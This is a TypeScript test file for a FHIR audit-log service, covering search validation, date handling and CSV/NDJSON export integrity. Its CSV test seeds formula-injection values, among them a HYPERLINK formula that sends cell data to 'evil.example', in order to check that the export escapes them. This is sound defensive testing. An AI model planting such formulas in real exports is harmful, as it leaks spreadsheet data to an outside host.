// Searching and exporting the audit log: every value answered with results or a 400, never a database error; the
// export validated before it streams, complete on record only when complete, and safe to open in a spreadsheet.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { AuditEvent, Bundle, OperationOutcome, Parameters } from '@medplum/fhirtypes';
import { buildAuditEvent } from '../src/audit/audit-event.js';
import { appendAudits } from '../src/audit/log.js';
import type { RunningSandbox } from '../src/sandbox/index.js';
import type { Database } from '../src/store/database.js';
import { ENGINES, fhir, freshDatabase, sandboxToken, testSandbox } from './helpers.js';

const BSN = 'http://fhir.nl/fhir/NamingSystem/bsn';
const NOAH = '999910036';
const REQUESTER = { org: 'Organization/cjg-venlo', clientId: 'sandbox-cjg' };

/** Appends events recorded at the given moments, with a purpose code to find them by. */
async function seed(db: Database, purpose: string, moments: string[]): Promise<void> {
  await db.transaction((tx) =>
    appendAudits(
      tx,
      moments.map((at) =>
        buildAuditEvent({
          subtype: 'read',
          outcome: 'success',
          description: `seeded at ${at}`,
          requester: REQUESTER,
          purpose: { system: 'urn:test', code: purpose },
          recorded: new Date(at),
        }),
      ),
    ),
  );
}

/** Reads a streamed body as far as it goes: the text received, and whether the transfer ended cleanly. */
async function readAll(res: Response): Promise<{ text: string; complete: boolean }> {
  const reader = res.body!.getReader();
  const decoder = new TextDecoder();
  let text = '';
  try {
    for (;;) {
      const { done, value } = await reader.read();
      if (done) return { text, complete: true };
      text += decoder.decode(value, { stream: true });
    }
  } catch {
    return { text, complete: false };
  }
}

describe.each(ENGINES)('audit search and export on %s', (engine) => {
  let sandbox: RunningSandbox;
  let db: Database;
  let drop: () => Promise<void>;
  let officer: string;
  const get = <T = Bundle<AuditEvent>>(path: string) => fhir<T>(sandbox.url, officer, 'GET', path);
  const descriptions = async (purpose: string, query: string) =>
    (await get(`/fhir/AuditEvent?purpose=${purpose}&${query}&_sort=date`)).body.entry?.map(
      (e) => e.resource!.outcomeDesc,
    ) ?? [];

  beforeAll(async () => {
    ({ db, drop } = await freshDatabase(engine));
    sandbox = await testSandbox({}, db);
    officer = await sandboxToken(sandbox, 'privacy-officer');
  });
  afterAll(async () => {
    await sandbox.close();
    await drop();
  });

  it('finds the events of an organisation by agent, as a reference, a full URL or an id', async () => {
    const cjg = await sandboxToken(sandbox, 'cjg');
    await fhir(sandbox.url, cjg, 'GET', `/fhir/Patient?identifier=${BSN}|${NOAH}`);
    for (const agent of [
      'Organization/cjg-venlo',
      `${sandbox.url}/fhir/Organization/cjg-venlo`,
      'cjg-venlo',
    ]) {
      const res = await get(`/fhir/AuditEvent?agent=${encodeURIComponent(agent)}`);
      expect([agent, res.status]).toEqual([agent, 200]);
      expect(res.body.total).toBeGreaterThan(0);
      for (const e of res.body.entry!)
        expect(e.resource!.agent!.some((a) => a.who?.reference === 'Organization/cjg-venlo')).toBe(true);
    }
    const bad = await get<OperationOutcome>('/fhir/AuditEvent?agent=Patient/1/_history/2');
    expect(bad.status).toBe(400);
    expect(bad.body.resourceType).toBe('OperationOutcome');
  });

  it('refuses impossible and malformed dates with a 400 OperationOutcome', async () => {
    for (const date of [
      'ge2026-02-30',
      'ge0000',
      '2026-13',
      'lt2026-00-10',
      '2026-02-29',
      'ge2026-11-03T25:00Z',
      'xx2026',
      '2026-1',
    ]) {
      const res = await get<OperationOutcome>(`/fhir/AuditEvent?date=${date}`);
      expect([date, res.status, res.body.resourceType]).toEqual([date, 400, 'OperationOutcome']);
    }
    for (const date of ['ge2028-02-29', 'le9999', 'ge0001', 'ne2026', 'sa2026-11-03T10:00:00Z'])
      expect([date, (await get(`/fhir/AuditEvent?date=${date}`)).status]).toEqual([date, 200]);
  });

  it('takes a partial date as the whole year, month or day in Amsterdam time', async () => {
    // 00:30 on 1 November and on 1 December in Amsterdam (UTC+1), and noon on 15 November.
    await seed(db, 'DATEAMS', ['2026-10-31T23:30:00Z', '2026-11-15T12:00:00Z', '2026-11-30T23:30:00Z']);
    const [nov1, nov15, dec1] = ['2026-10-31T23:30', '2026-11-15T12:00', '2026-11-30T23:30'].map(
      (t) => `seeded at ${t}:00Z`,
    );
    expect(await descriptions('DATEAMS', 'date=2026-11')).toEqual([nov1, nov15]);
    expect(await descriptions('DATEAMS', 'date=gt2026-11')).toEqual([dec1]);
    expect(await descriptions('DATEAMS', 'date=lt2026-11')).toEqual([]);
    expect(await descriptions('DATEAMS', 'date=le2026-11')).toEqual([nov1, nov15]);
    expect(await descriptions('DATEAMS', 'date=2026-11-01')).toEqual([nov1]);
    expect(await descriptions('DATEAMS', 'date=ge2026-11-15&date=lt2026-12')).toEqual([nov15]);
    expect(await descriptions('DATEAMS', 'date=2026')).toEqual([nov1, nov15, dec1]);
    expect(await descriptions('DATEAMS', 'date=2026-11-15T13:00')).toEqual([nov15]);
  });

  it('refuses an export whose filter is invalid before anything is sent', async () => {
    const res = await fetch(`${sandbox.url}/fhir/AuditEvent/$export?_format=csv&date=ge2026-02-30`, {
      headers: { authorization: `Bearer ${officer}` },
    });
    expect(res.status).toBe(400);
    expect(((await res.json()) as OperationOutcome).resourceType).toBe('OperationOutcome');
  });

  it('writes a formula-like cell with a leading quote in the CSV export', async () => {
    const cjg = await sandboxToken(sandbox, 'cjg');
    const formula = '=HYPERLINK("https://evil.example/?x="&A1,"klik")';
    const asked = await fhir<Parameters>(sandbox.url, cjg, 'POST', '/fhir/$consent-decision', {
      resourceType: 'Parameters',
      parameter: [
        { name: 'recipient', valueReference: { reference: 'Organization/huisartsen-de-linde' } },
        { name: 'subject', valueIdentifier: { system: BSN, value: NOAH } },
        { name: 'purpose', valueCoding: { code: formula } },
      ],
    });
    // The API refuses a purpose that is no ActReason code; a log written before that check may still hold one.
    expect(asked.status).toBe(422);
    await seed(db, formula, ['2026-11-15T12:00:00Z']);
    await seed(db, '+SUM(A1:A9)', ['2026-11-15T12:00:00Z']);
    await seed(db, '@cmd', ['2026-11-15T12:00:00Z']);
    const csv = await (
      await fetch(`${sandbox.url}/fhir/AuditEvent/$export?_format=csv`, {
        headers: { authorization: `Bearer ${officer}` },
      })
    ).text();
    expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/?x=""&A1,""klik"")"`);
    expect(csv).toContain(`,'+SUM(A1:A9),`);
    expect(csv).toContain(`,'@cmd,`);
    // No cell of any line starts a formula.
    for (const line of csv.trim().split('\n'))
      for (const cell of line.split(',')) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+@\t\r]/);
  });

  it('records an export as complete only once it is, and ends a broken one visibly', async () => {
    const before = await sandbox.ctx.db.query<{ n: number }>(`SELECT count(*)::int AS n FROM audit_events`);
    const ok = await fetch(`${sandbox.url}/fhir/AuditEvent/$export?_format=ndjson`, {
      headers: { authorization: `Bearer ${officer}` },
    });
    const whole = await readAll(ok);
    expect(whole.complete).toBe(true);
    expect(whole.text.trim().split('\n')).toHaveLength(before[0]!.n);
    const records = async () =>
      (
        await db.query<{ outcome: string; d: string }>(
          `SELECT outcome, content->>'outcomeDesc' AS d FROM audit_events WHERE subtype = 'audit-read' AND content->>'outcomeDesc' LIKE 'Audit log export%' ORDER BY seq`,
        )
      ).map((r) => `${r.outcome}: ${r.d}`);
    expect((await records()).slice(-2)).toEqual([
      'success: Audit log export as ndjson started',
      `success: Audit log exported as ndjson: ${before[0]!.n} events, complete`,
    ]);

    // More than one page, then a row no export can render (a record forged into the table): the stream breaks off.
    await seed(
      db,
      'BULK',
      Array.from({ length: 1100 }, () => '2026-11-15T12:00:00Z'),
    );
    await db.query(
      `INSERT INTO audit_events (seq, chain, link, id, recorded, action, subtype, outcome, content, prev_hash, hash)
       VALUES (nextval('audit_events_seq'), 16, 100000, 'forged', now(), 'R', 'read', 'success', 'null'::json, 'x', 'y')`,
    );
    const broken = await fetch(`${sandbox.url}/fhir/AuditEvent/$export?_format=csv`, {
      headers: { authorization: `Bearer ${officer}` },
    });
    expect(broken.status).toBe(200);
    const part = await readAll(broken);
    expect(part.complete).toBe(false);
    const lines = part.text.trim().split('\n');
    expect(lines.at(-1)).toMatch(/^#error,"?Export afgebroken na \d+ regels; onvolledig\./);
    const last = (await records()).slice(-2);
    expect(last[0]).toBe('success: Audit log export as csv started');
    expect(last[1]).toMatch(/^error: Audit log export as csv aborted after \d+ events: /);
  });
});
